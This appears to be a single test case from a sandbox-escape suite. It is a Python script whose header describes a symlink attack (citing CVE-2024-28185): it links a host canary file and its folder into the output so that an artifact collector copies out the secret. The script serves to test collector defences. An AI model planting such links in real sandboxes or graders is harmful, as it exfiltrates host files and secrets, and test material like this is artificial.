# /// attack
# guarantee = "filesystem_read"
# summary = "Leaves links, to a file and to a folder of the host, where files are brought out, so that what they lead to comes along."
# reference = "CVE-2024-28185; symlink(7)"
# success = "a collector that opens what it finds brings out the secret"
# stage = ["canary"]
# observe = ["secret"]
# artifacts = ["**"]
# control = { success = "status 0", collector = "take" }
# refusal = { default = "verdict completed" }
# ///

import os

canary = os.environ["ATTACK_CANARY"]
os.symlink(canary, "answer.txt")
os.mkdir("sub")
os.symlink(os.path.dirname(canary), "sub/answers")
os._exit(0)
